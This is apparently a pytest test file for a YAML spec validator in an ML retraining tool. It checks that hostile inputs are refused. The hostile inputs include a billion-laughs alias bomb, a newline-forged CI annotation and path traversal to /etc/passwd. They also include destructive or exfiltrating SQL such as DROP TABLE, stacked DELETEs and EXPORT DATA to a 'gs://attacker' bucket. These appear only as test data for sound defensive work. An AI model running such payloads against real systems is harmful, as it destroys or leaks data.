"""Specs written by an attacker or a careless user: YAML bombs, hostile SQL, costly or
impossible schedules, clashes between specs. Each gets a `FILE:LINE: field: message` answer."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from retrain.cli.main import main
from retrain.data.local import materialize
from retrain.errors import PipelineError, SpecError
from retrain.routing.index import load_index
from retrain.spec import load_specs
from retrain.spec.load import parse_spec
from tests.spec.test_validate import VALID


def problems_of(text: str, file: str = "toy.yaml") -> list[str]:
    with pytest.raises(SpecError) as caught:
        parse_spec(text, file)
    return [str(p) for p in caught.value.problems]


def billion_laughs(levels: int) -> str:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    return VALID + "\n".join(lines) + "\n"


# -- YAML --------------------------------------------------------------------------------------


def test_an_alias_bomb_is_refused_at_its_first_anchor() -> None:
    first_anchor_line = VALID.count("\n") + 1
    assert problems_of(billion_laughs(9)) == [
        f"toy.yaml:{first_anchor_line}: <root>: anchor &a0 is not allowed in a spec; write it out"
    ]


def test_an_alias_without_anchor_is_refused() -> None:
    text = VALID.replace('owner: "@team/ml"', "owner: *someone")
    assert problems_of(text) == [
        "toy.yaml:2: <root>: alias *someone is not allowed in a spec; write it out"
    ]


@pytest.mark.parametrize(
    "nested",
    [
        "[" * 500 + "]" * 500,
        "{a: " * 500 + "}" * 500,
        "[" * 200_000 + "]" * 200,  # over the size limit long before the depth counts
    ],
    ids=["flow-sequence", "flow-mapping", "huge"],
)
def test_deep_nesting_is_an_answer_not_a_recursion_error(nested: str) -> None:
    found = problems_of(VALID.replace("description: ", "x: ") + f"description: {nested}\n")
    assert len(found) == 1
    assert "nested deeper than 32 levels" in found[0] or "the limit is" in found[0]


def test_deep_block_nesting_is_refused() -> None:
    block = "".join(" " * depth + f"k{depth}:\n" for depth in range(0, 80))
    assert problems_of(block) == ["toy.yaml:32: <root>: nested deeper than 32 levels"]


def test_a_complex_key_is_refused_with_its_line() -> None:
    text = VALID + "? [a, b]\n: 1\n"
    line = VALID.count("\n") + 1
    assert problems_of(text) == [
        f"toy.yaml:{line}: <root>: a key must be a plain name, not a list or mapping"
    ]


def test_a_huge_spec_is_refused_before_parsing() -> None:
    text = VALID + "description: " + "a" * 20_000_000 + "\n"
    assert problems_of(text) == [
        f"toy.yaml:1: <root>: spec is {len(text)} characters; the limit is 262144 characters"
    ]


def test_a_newline_in_a_key_cannot_forge_a_workflow_annotation(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = tmp_path / "toy.yaml"
    spec.write_text(VALID + '"x\\n::error file=specs/churn.yaml,line=1::Looks good": 1\n')
    assert main(["validate", str(spec)]) == 1
    lines = capsys.readouterr().err.splitlines()
    assert lines, "validate printed nothing"
    assert not [line for line in lines if line.startswith("::")], lines
    assert any("x\\n::error" in line for line in lines), lines


# -- SQL ---------------------------------------------------------------------------------------

WATCHED = "`my-project.analytics.customers`"


def with_query(query: str) -> str:
    quoted = query.replace("'", "''")
    return VALID.replace("  local:\n", f"  query: '{quoted}'\n  local:\n")


def query_problems(tmp_path: Path, query: str) -> list[str]:
    path = tmp_path / "toy.yaml"
    path.write_text(with_query(query))
    with pytest.raises(SpecError) as caught:
        load_specs([path])
    return [str(p).removeprefix(f"{tmp_path}/") for p in caught.value.problems]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        (f"DELETE FROM {WATCHED} WHERE true", "must be a SELECT statement, not DELETE"),
        (f"INSERT INTO {WATCHED} (age) VALUES (1)", "must be a SELECT statement, not INSERT"),
        (f"UPDATE {WATCHED} SET age = 1 WHERE true", "must be a SELECT statement, not UPDATE"),
        (
            f"MERGE {WATCHED} t USING {WATCHED} s ON true WHEN MATCHED THEN DELETE",
            "must be a SELECT statement, not MERGE",
        ),
        (f"DROP TABLE {WATCHED}", "must be a SELECT statement, not DROP"),
        (f"TRUNCATE TABLE {WATCHED}", "must be a SELECT statement, not TRUNCATETABLE"),
        (
            f"SELECT age FROM {WATCHED}; DELETE FROM {WATCHED} WHERE true",
            "must be exactly one SELECT statement, found 2 statements",
        ),
        ("BEGIN SELECT 1; END", "must be exactly one SELECT statement, found 2 statements"),
        ("EXECUTE IMMEDIATE 'DROP TABLE x'", "must be a SELECT statement, not an opaque command"),
        ("CALL `my-project.analytics.wipe`()", "must be a SELECT statement, not an opaque command"),
        ("DECLARE x INT64", "must be a SELECT statement, not DECLARE"),
        (
            f"EXPORT DATA OPTIONS(uri='gs://attacker/*.csv', format='CSV') AS "
            f"SELECT * FROM {WATCHED}",
            "must be a SELECT statement, not EXPORT",
        ),
        (
            "SELECT * FROM EXTERNAL_QUERY('conn', 'SELECT * FROM users')",
            "table functions are not allowed",
        ),
        ("SELECT * FROM read_text('/etc/hostname')", "table functions are not allowed"),
        (
            f"SELECT * FROM ML.PREDICT(MODEL `p.d.m`, TABLE {WATCHED})",
            "table functions are not allowed",
        ),
        ("COPY (SELECT 1) TO '/tmp/owned.csv'", "must be a SELECT statement, not COPY"),
        (f"SELECT * INTO stolen FROM {WATCHED}", "may only select rows; it contains INTO"),
        (
            f"SELECT (SELECT max(salary) FROM `my-project.hr.pay`) AS age FROM {WATCHED}",
            "reads my-project.hr.pay, but local runs only have",
        ),
    ],
)
def test_queries_that_are_not_one_select_are_refused(
    tmp_path: Path, query: str, message: str
) -> None:
    found = query_problems(tmp_path, query)
    assert len(found) == 1, found
    assert found[0].startswith("toy.yaml:7: data.query: "), found
    assert message in found[0], found


def write_rows(path: Path) -> None:
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["age", "country", "churned"])
        writer.writerows([[31, "DE", 1], [45, "FR", 0], [52, "DE", 0]])


def test_a_query_with_a_cte_over_the_watched_table_is_valid_and_runs(tmp_path: Path) -> None:
    query = (
        f"WITH recent AS (SELECT age, country, churned FROM {WATCHED} WHERE age > 40) "
        "SELECT age, country, churned FROM recent"
    )
    spec = parse_spec(with_query(query).replace("data/toy.csv", "toy.csv"), "toy.yaml")
    write_rows(tmp_path / "toy.csv")
    # the query itself, as local runs execute it (too few rows here for materialize's data checks)
    import duckdb

    from retrain.data.local import SOURCE_VIEW, local_query

    with duckdb.connect() as db:
        source = str(tmp_path / "toy.csv")
        db.execute(f"CREATE TABLE {SOURCE_VIEW} AS SELECT * FROM read_csv_auto('{source}')")
        rows = db.sql(local_query(spec, "2026-11-20T05:00:00Z")).fetchall()
    assert [tuple(str(v) for v in row) for row in rows] == [("45", "FR", "0"), ("52", "DE", "0")]


@pytest.mark.parametrize("path", ["../secrets.csv", "/etc/passwd", "data/../../x.csv", "~/x.csv"])
def test_local_path_must_stay_inside_the_repository(path: str) -> None:
    found = problems_of(VALID.replace("data/toy.csv", path))
    assert len(found) == 1
    assert found[0].startswith("toy.yaml:8: data.local.path: ")
    assert "must be a path inside the repository" in found[0]


def test_a_link_out_of_the_repository_is_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside.csv"
    write_rows(outside)
    repo = tmp_path / "repo"
    (repo / "data").mkdir(parents=True)
    (repo / "data" / "toy.csv").symlink_to(outside)
    spec = parse_spec(VALID, "toy.yaml")
    with pytest.raises(PipelineError, match="is outside the repository"):
        materialize(spec, repo, tmp_path / "out.csv")


# -- cost and clashes --------------------------------------------------------------------------


def test_a_schedule_more_often_than_hourly_needs_an_explicit_opt_in() -> None:
    every_minute = VALID.replace('schedule: "0 5 * * 1"', 'schedule: "* * * * *"')
    assert problems_of(every_minute) == [
        "toy.yaml:24: triggers.schedule: '* * * * *' runs more often than hourly; "
        "set triggers.frequent_schedule: true if that is intended"
    ]
    opted_in = every_minute.replace(
        'schedule: "* * * * *"', 'schedule: "* * * * *"\n  frequent_schedule: true'
    )
    spec = parse_spec(opted_in, "toy.yaml")
    assert spec.triggers.frequent_schedule


@pytest.mark.parametrize(
    ("cron", "message"),
    [
        ("0 5 31 2 *", "31 2: no such day, so the schedule never runs"),
        ("59-0 * * * *", "minute field '59-0': range 59-0 runs backwards"),
        ("0 */25 * * *", "hour field '*/25': step 25 is larger than the field's range 0-23"),
        ("05 5 * * *", "minute field '05': '05' has a leading zero"),
        ("0 5 * * 1/07", "day of week field '1/07': step '07' has a leading zero"),
    ],
)
def test_impossible_and_malformed_crons_are_refused(cron: str, message: str) -> None:
    found = problems_of(VALID.replace('"0 5 * * 1"', f'"{cron}"'))
    assert found == [f"toy.yaml:24: triggers.schedule: {message}"]


@pytest.mark.parametrize(
    ("old", "new", "where"),
    [
        ("min_new_rows: 100", "min_new_rows: 10000000000000000000000000000000000000000", 22),
        ("debounce: 6h", "debounce: 99999999999999999999d", 22),
    ],
)
def test_counts_and_durations_have_upper_bounds(old: str, new: str, where: int) -> None:
    found = problems_of(VALID.replace(old, new))
    assert len(found) == 1
    assert found[0].startswith(f"toy.yaml:{where}: triggers.data_arrival.")


def two_specs_sharing_a_registry_model(directory: Path) -> tuple[Path, Path]:
    directory.mkdir(exist_ok=True)
    first = directory / "toy.yaml"
    first.write_text(VALID)
    second = directory / "twin.yaml"
    second.write_text(VALID.replace("name: toy", "name: twin"))
    return first, second


def test_two_specs_cannot_share_a_registry_model(tmp_path: Path) -> None:
    first, second = two_specs_sharing_a_registry_model(tmp_path / "specs")
    with pytest.raises(SpecError) as caught:
        load_specs([first, second])
    assert [str(p) for p in caught.value.problems] == [
        f"{second}:26: promotion.registry_model: registry model 'toy' is already used by {first}"
    ]


def test_the_functions_index_refuses_the_same_clash(tmp_path: Path) -> None:
    _, second = two_specs_sharing_a_registry_model(tmp_path / "specs")
    with pytest.raises(SpecError, match="registry model 'toy' is already used"):
        load_index(second.parent)
